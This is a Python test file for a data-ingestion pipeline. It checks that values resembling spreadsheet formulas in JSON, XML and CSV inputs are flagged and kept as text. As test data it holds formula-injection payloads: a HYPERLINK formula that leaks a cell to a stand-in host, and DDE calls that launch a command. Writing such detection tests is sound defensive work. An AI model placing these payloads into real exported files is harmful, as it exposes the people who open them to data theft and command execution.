"""A value a spreadsheet would run as a formula (`=…`, or `+`, `-`, `@` before a function
call) is flagged whatever the file it came in: CSV and spreadsheet cells by their readers,
JSON and XML values by the mapper, with the same warning (the value is kept as text, never
evaluated)."""

from __future__ import annotations

import json
from pathlib import Path

from ingestion import mapping_file
from ingestion.mapper import MappingStats, iter_items, map_item
from ingestion.readers import iter_records
from ingestion.run import plan_files

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Cliquez ici")'
WARNING = "formula-looking cell: never evaluated"


def samples(slug: str) -> Path:
    """A producer's sample files and what they map to (`producers/<slug>/samples/`)."""
    return mapping_file.PRODUCERS_DIR / mapping_file.folder_name(slug) / "samples"


def _issues(slug: str, path: Path) -> list[list[tuple[str, str | None, str | None]]]:
    """The warnings and errors of each record of `path`, mapped as an ingest maps it."""
    producer = mapping_file.load(slug)
    out = []
    for kind_mapping, file in plan_files(producer, [path]):
        stats = MappingStats()
        records = iter_records(file, kind_mapping.reader_options(producer.reader))
        for item in iter_items(kind_mapping, records, stats):
            mapped = map_item(producer, kind_mapping, item, stats)
            out.append([(i.message, i.field, i.value) for i in mapped.issues])
    return out


def test_json_values_that_look_like_formulas_are_flagged(tmp_path: Path) -> None:
    doc = json.loads((samples("cd35") / "annuaire.json").read_text(encoding="utf-8"))
    doc["features"][0]["attributes"]["ORG_NOM"] = FORMULA
    doc["features"][1]["attributes"]["ORG_TEL"] = "+33 2 99 00 00 00"  # a phone: not a formula
    doc["features"][1]["attributes"]["ORG_DESC"] = "-cmd|' /C calc'!A0"  # a DDE call
    path = tmp_path / "annuaire.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    issues = _issues("cd35", path)
    assert (WARNING, "attributes.ORG_NOM", FORMULA) in issues[0]
    assert [i for i in issues[1] if i[0] == WARNING] == [
        (WARNING, "attributes.ORG_DESC", "-cmd|' /C calc'!A0")
    ]
    assert all(i[0] != WARNING for record in issues[2:] for i in record)


def test_xml_values_that_look_like_formulas_are_flagged(tmp_path: Path) -> None:
    text = (samples("carif-oref") / "formations.xml").read_text(encoding="utf-8")
    text = text.replace(
        "<intitule-formation>Apprendre le français</intitule-formation>",
        "<intitule-formation>@SUM(1+1)*cmd|' /C calc'!A0</intitule-formation>",
        1,
    )
    path = tmp_path / "formations.xml"
    path.write_text(text, encoding="utf-8")
    flagged = [i for record in _issues("carif-oref", path) for i in record if i[0] == WARNING]
    assert flagged == [(WARNING, "intitule-formation", "@SUM(1+1)*cmd|' /C calc'!A0")]


def test_csv_cells_keep_their_single_warning(tmp_path: Path) -> None:
    """The CSV reader flags its cells itself: the mapper adds no second warning."""
    source = samples("france-travail")
    csv_file = next(p for p in source.iterdir() if p.suffix == ".csv")
    lines = csv_file.read_text(encoding="cp1252").splitlines()
    delimiter = ";" if lines[0].count(";") > lines[0].count(",") else ","
    cells = lines[1].split(delimiter)
    cells[1] = FORMULA.replace('"', "'")
    lines[1] = delimiter.join(cells)
    path = tmp_path / csv_file.name
    path.write_text("\n".join(lines) + "\n", encoding="cp1252")
    first = _issues("france-travail", path)[0]
    assert len([i for i in first if i[0] == WARNING]) == 1, first
